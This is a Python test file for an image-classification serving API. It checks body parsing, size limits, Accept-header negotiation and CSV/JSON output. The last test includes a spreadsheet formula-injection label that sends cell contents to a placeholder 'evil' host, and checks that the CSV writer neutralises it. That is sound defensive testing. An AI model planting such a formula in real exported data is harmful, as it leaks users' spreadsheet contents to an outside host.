"""Bodies to files, and the Accept header to an answer."""

import base64
import csv
import io
import json

import numpy as np
import pytest
import torch

from kd.deploy.serve import bodies, responses
from kd.deploy.serve.limits import Problem


def encoded(*files: bytes) -> bytes:
    return json.dumps(
        {"images": [base64.b64encode(file).decode() for file in files]}
    ).encode()


def multipart(*files: bytes, boundary: str = "b0und") -> bytes:
    sections = [
        f'--{boundary}\r\ncontent-disposition: form-data; name="x";'
        ' filename="y"\r\n\r\n'.encode()
        + f
        + b"\r\n"
        for f in files
    ]
    return b"".join(sections) + f"--{boundary}--\r\n".encode()


def status_of(kind: str, header: str, body: bytes, limit: int = 4) -> int:
    with pytest.raises(Problem) as caught:
        bodies.images(kind, header, body, limit)
    return caught.value.status


FILES = [b"one", b"\r\n--two\r\n", bytes(range(256)), b""]


def test_json_holds_one_image_or_several():
    assert bodies.images("application/json", "", encoded(*FILES), 4).files == FILES
    single = json.dumps({"image": base64.b64encode(b"one").decode()}).encode()
    assert bodies.images("application/json", "", single, 4).files == [b"one"]


@pytest.mark.parametrize(
    "boundary", ["b0und", "----WebKitFormBoundary7MA4YWxkTrZu0gW", "a b"]
)
def test_multipart_is_read_with_any_boundary(boundary):
    body = multipart(*FILES, boundary=boundary)
    header = f'multipart/form-data; boundary="{boundary}"'
    assert bodies.images("multipart/form-data", header, body, 4).files == FILES


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"{",
        b"[]",
        b"null",
        b'"image"',
        b'{"image": 1}',
        b'{"image": null}',
        b'{"images": "YQ=="}',
        b'{"images": [["YQ=="]]}',
        b'{"images": []}',
        b'{"image": "not base64!"}',
        b'{"image": "https://example.org/dish.jpg"}',
        b'{"image": "YQ"}',
        "{'image': 'YQ=='}".encode("utf-16"),
        b"\xff\xfe\xfd",
        b"[" * 900,
        b'{"a":' * 900,
        b'{"image": ' + b"9" * 5000 + b"}",
        b'{"image": NaN}',
        '{"image": "\u00e9\u00e9\u00e9\u00e9"}'.encode(),
    ],
)
def test_malformed_json_is_refused(body):
    assert status_of("application/json", "", body) == 400


@pytest.mark.parametrize(
    ("header", "body"),
    [
        ("multipart/form-data", multipart(b"x")),
        ("multipart/form-data; boundary=", multipart(b"x")),
        ("multipart/form-data; boundary=" + "x" * 100, b"x"),
        ("multipart/form-data; boundary=other", multipart(b"x")),
        ("multipart/form-data; boundary=b0und", b""),
        ("multipart/form-data; boundary=b0und", multipart(b"x")[:-8]),
        ("multipart/form-data; boundary=b0und", b"--b0und--\r\n"),
        (
            "multipart/form-data; boundary=b0und",
            b"--b0und\r\nno end of the header\r\n--b0und--\r\n",
        ),
        (
            "multipart/form-data; boundary=b0und",
            b"--b0und\r\n" + b"h" * 9000 + b"\r\n\r\nx\r\n--b0und--\r\n",
        ),
    ],
)
def test_malformed_multipart_is_refused(header, body):
    boundary_is_longer_than_allowed = "x" * 100 in header
    assert (
        status_of("multipart/form-data", header, body) == 400
        or boundary_is_longer_than_allowed
    )


@pytest.mark.parametrize("item", [b"[", b"[],", b"{},", b'{"a":', b"0,", b'"",'])
def test_too_many_values_are_not_parsed(item):
    assert (
        status_of("application/json", "", b'{"image": [' + item * 50_000 + b"0]}")
        == 413
    )


def test_too_many_images_are_refused():
    assert status_of("application/json", "", encoded(*[b"x"] * 5)) == 413
    assert (
        status_of(
            "multipart/form-data",
            "multipart/form-data; boundary=b0und",
            multipart(*[b"x"] * 5),
        )
        == 413
    )
    assert (
        status_of(
            "multipart/form-data",
            "multipart/form-data; boundary=b0und",
            multipart(*[b"x"] * 500),
        )
        == 413
    )


@pytest.mark.parametrize(
    "header",
    ["text/plain", "image/gif", "application/x-www-form-urlencoded", "image", "*/*"],
)
def test_types_that_are_not_taken_are_refused(header):
    with pytest.raises(Problem, match="Allowed are image/jpeg") as caught:
        bodies.media_type(header)
    assert caught.value.status == 415
    assert "image/webp" in caught.value.headers["accept"]


@pytest.mark.parametrize(
    ("accept", "expected"),
    [
        ("", "application/json"),
        ("*/*", "application/json"),
        ("application/*", "application/json"),
        ("text/*", "text/csv"),
        ("text/csv", "text/csv"),
        ("TEXT/CSV", "text/csv"),
        ("text/csv, application/json", "application/json"),
        ("text/csv;q=0.9, application/json;q=0.1", "text/csv"),
        ("text/html, */*;q=0.1", "application/json"),
        ("application/json;q=0, */*", "text/csv"),
        ("application/json; charset=utf-8", "application/json"),
    ],
)
def test_accept_chooses_the_type_of_the_answer(accept, expected):
    assert responses.negotiate(accept) == expected


@pytest.mark.parametrize(
    "accept",
    [
        "text/html",
        "application/xml",
        "application/json;q=0",
        "*/*;q=0",
        "nonsense",
        ",",
    ],
)
def test_accept_of_nothing_that_we_write_is_refused(accept):
    with pytest.raises(Problem) as caught:
        responses.negotiate(accept)
    assert caught.value.status == 406


def test_a_long_accept_is_refused():
    assert responses.negotiate(31 * "text/html," + "*/*") == "application/json"
    with pytest.raises(Problem, match="more than 32 entries") as caught:
        responses.negotiate("," * 16_000)
    assert caught.value.status == 400


def test_scores_are_torchs_softmax():
    logits = np.random.default_rng(0).normal(0, 5, (7, 11)).astype(np.float32)
    expected = torch.from_numpy(logits).double().softmax(1).numpy()
    assert np.allclose(responses.probabilities(logits), expected, rtol=1e-12, atol=0)
    assert np.isfinite(
        responses.probabilities(np.array([[1e4, -1e4]], np.float32))
    ).all()


def test_the_prediction_is_ranked_and_rounded():
    labels = ["a", 'b "quoted", with a comma', "c"]
    predictions = responses.predictions(
        np.array([[0.0, 2.0, 1.0]], np.float32), labels, 2
    )
    assert [entry["label"] for entry in predictions[0]["top"]] == [labels[1], "c"]
    assert predictions[0]["score"] == round(
        float(np.exp(2) / np.exp([0, 1, 2]).sum()), 6
    )
    rows = list(
        csv.reader(
            io.StringIO(responses.write("text/csv", predictions, "m", "v").decode())
        )
    )
    assert rows == [[labels[1], "0.665241", "c", "0.244728"]]
    content = json.loads(responses.write("application/json", predictions, "m", "v"))
    assert content == {"predictions": predictions, "model": "m", "version": "v"}


def test_a_label_is_no_formula_of_a_spreadsheet():
    labels = (
        '=HYPERLINK("http://evil/?"&A1,"fig")',
        "@SUM(1+1)",
        "-2+3",
        "+a",
        "-2",
        "fig",
    )
    pairs = [{"label": label, "score": 0.5} for label in labels]
    for answer in ({"top": pairs}, {"labels": pairs, "top": pairs}):
        (row,) = csv.reader(
            io.StringIO(responses.write("text/csv", [answer], "m", "v").decode())
        )
        assert row[::2] == [*(f"'{label}" for label in labels[:4]), "-2", "fig"]
    content = json.loads(
        responses.write("application/json", [{"top": pairs}], "m", "v")
    )
    assert content["predictions"] == [{"top": pairs}]
